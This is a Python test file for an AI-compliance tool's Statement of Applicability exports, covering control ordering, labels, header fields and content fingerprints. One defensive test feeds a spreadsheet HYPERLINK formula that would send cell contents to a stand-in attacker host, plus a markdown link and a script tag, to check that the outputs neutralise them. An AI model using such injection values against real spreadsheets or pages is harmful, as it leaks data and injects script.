"""SoA files as controlled documents: natural id order, vocabulary labels, a header saying whose and when."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import random
from pathlib import Path

import pytest
from openpyxl import load_workbook

from graph.compliance.decisions import DecisionRequest, record
from graph.compliance.soa import SoaRow, soa_for_system, soa_rollup
from graph.ingest.load import OntologyLayout
from graph.namespaces import control_order
from graph.publish.reports import DOCUMENT_SHEET, soa_csv, soa_json, soa_markdown, soa_xlsx
from graph.publish.soa_header import SoaHeader, soa_header
from graph.store import Store
from tests.conftest import example_store

TODAY = dt.date(2026, 11, 25)
SCOPE = "All AI systems built, bought or used by Kestrel Finance's lending, HR and operations units."


@pytest.fixture(scope="module")
def store(layout: OntologyLayout) -> Store:
    store: Store = example_store(layout)
    why = "The chatbot runs on Orion's hosted model."
    record(store, DecisionRequest("A.10.3", "Support chatbot", "applicable", "risk-treatment", why, "U-LEAD"))
    return store


def test_control_order_is_the_standards_order_not_text_order() -> None:
    ids = ["A.10.2", "10.2", "A.2.2", "C.3.4", "4.1", "A.9.4", "9.1", "A.6.2.10", "A.6.2.2"]
    assert sorted(ids, key=control_order) == [
        "4.1",
        "9.1",
        "10.2",
        "A.2.2",
        "A.6.2.2",
        "A.6.2.10",
        "A.9.4",
        "A.10.2",
        "C.3.4",
    ]


def _document(store: Store, system: str | None) -> tuple[list[SoaRow], SoaHeader]:
    """The SoA of ``system`` (None: the roll-up) and its header, as ``aims soa`` makes them."""
    rows = soa_for_system(store, system, TODAY) if system else soa_rollup(store, TODAY)
    return rows, soa_header(store, system, TODAY, rows)


def _shuffled(rows: list[SoaRow]) -> list[SoaRow]:
    shuffled = list(rows)
    random.Random(15).shuffle(shuffled)
    return shuffled


def test_every_soa_format_lists_a_2_2_before_a_10_2_even_from_shuffled_rows(store: Store, tmp_path: Path) -> None:
    rows, header = _document(store, None)
    expected = [r.control for r in rows]
    assert expected.index("A.2.2") < expected.index("A.10.2") and expected == sorted(expected, key=control_order)
    rows = _shuffled(rows)
    assert [r["control"] for r in csv.DictReader(io.StringIO(soa_csv(rows, header=header)))] == expected
    assert [r["control"] for r in json.loads(soa_json(rows))] == expected
    table = [line for line in soa_markdown(rows, header=header).splitlines() if line.startswith("| A.")]
    assert [line.split(" | ")[0].removeprefix("| ") for line in table] == expected
    soa_xlsx(rows, tmp_path / "soa.xlsx", header=header)
    sheet = load_workbook(tmp_path / "soa.xlsx").worksheets[0]
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == expected


def test_justification_type_is_shown_by_its_label_not_the_internal_name(store: Store) -> None:
    rows, header = _document(store, "Support chatbot")
    assert next(r for r in rows if r.control == "A.10.3").justification_type == "risk treatment"
    exported = soa_csv(rows, header=header) + soa_markdown(rows, header=header) + soa_json(rows)
    assert "RiskTreatment" not in exported and "risk treatment" in exported


def test_per_system_markdown_names_its_system_even_when_asked_by_alias(store: Store) -> None:
    rows, header = _document(store, "support bot")
    assert {r.scope for r in rows} == {"Support chatbot"}
    assert soa_markdown(rows, header=header).splitlines()[0] == "# Statement of Applicability: Support chatbot"
    rows, header = _document(store, None)
    assert soa_markdown(rows, header=header).splitlines()[0] == "# Statement of Applicability: organisation roll-up"


def test_soa_files_carry_organisation_scope_date_and_fingerprint(store: Store, tmp_path: Path) -> None:
    rows, header = _document(store, "Support chatbot")
    assert (header.organisation, header.scope, header.generated) == ("Kestrel Finance", SCOPE, "2026-11-25")
    assert len(header.fingerprint) == 64

    text = soa_csv(rows, header=header)
    assert text.splitlines()[0].startswith("control,title,scope,verdict,")  # still a plain column header
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert {(r["organisation"], r["organisation_scope"], r["generated"]) for r in parsed} == {
        ("Kestrel Finance", SCOPE, "2026-11-25")
    }
    assert {r["content_fingerprint"] for r in parsed} == {"sha256:" + header.fingerprint}

    markdown = soa_markdown(rows, header=header)
    for line in (
        "- Organisation: Kestrel Finance",
        "- Generated: 2026-11-25",
        f"- Content fingerprint: sha256:{header.fingerprint}",
    ):
        assert line in markdown.splitlines()
    assert "Kestrel Finance's lending, HR and operations units." in markdown

    soa_xlsx(rows, tmp_path / "soa.xlsx", header=header)
    book = load_workbook(tmp_path / "soa.xlsx")
    assert book.worksheets[0].max_row == 39  # the SoA sheet keeps its column header in row 1
    about = dict(book[DOCUMENT_SHEET].iter_rows(values_only=True))
    assert about["document"] == "Statement of Applicability: Support chatbot"
    assert about["organisation"] == "Kestrel Finance" and about["scope"] == SCOPE
    assert about["generated"] == "2026-11-25" and about["content fingerprint"] == "sha256:" + header.fingerprint


def test_fingerprint_tells_apart_soas_generated_before_and_after_a_decision(layout: OntologyLayout) -> None:
    store = example_store(layout)
    before = _document(store, None)[1].fingerprint
    chatbot = _document(store, "Support chatbot")[1].fingerprint
    assert _document(store, None)[1].fingerprint == before  # stable while nothing changes
    why = "Decided to test the fingerprint."
    record(store, DecisionRequest("A.5.2", "CV screening model", "applicable", "best-practice", why, "U-LEAD"))
    assert _document(store, None)[1].fingerprint != before
    # Another system's decision is not a new version of the chatbot's SoA.
    assert _document(store, "Support chatbot")[1].fingerprint == chatbot


def test_header_from_the_inventory_is_inert_in_spreadsheets_and_literal_in_markdown(
    store: Store, tmp_path: Path
) -> None:
    rows, header = _document(store, "Support chatbot")
    hostile = dataclasses.replace(
        header,
        organisation='=HYPERLINK("http://evil.example/?"&A1, "x")',
        scope="[click](http://evil.example) <script>alert(1)</script>",
    )
    parsed = list(csv.DictReader(io.StringIO(soa_csv(rows, header=hostile))))
    assert parsed[0]["organisation"].startswith("'=")
    soa_xlsx(rows, tmp_path / "soa.xlsx", header=hostile)
    about = dict(load_workbook(tmp_path / "soa.xlsx")[DOCUMENT_SHEET].iter_rows(values_only=True))
    assert str(about["organisation"]).startswith("'=")
    markdown = soa_markdown(rows, header=hostile)
    assert "[click](" not in markdown and "<script>" not in markdown
    assert "\\[click\\](http://evil.example) \\<script\\>" in markdown


def test_missing_organisation_record_leaves_the_header_blank_not_broken(store: Store) -> None:
    header = SoaHeader("organisation roll-up", "", "", "2026-11-25", "0" * 64)
    markdown = soa_markdown(soa_rollup(store, TODAY), header=header)
    assert "- Organisation: (not recorded)" in markdown.splitlines()
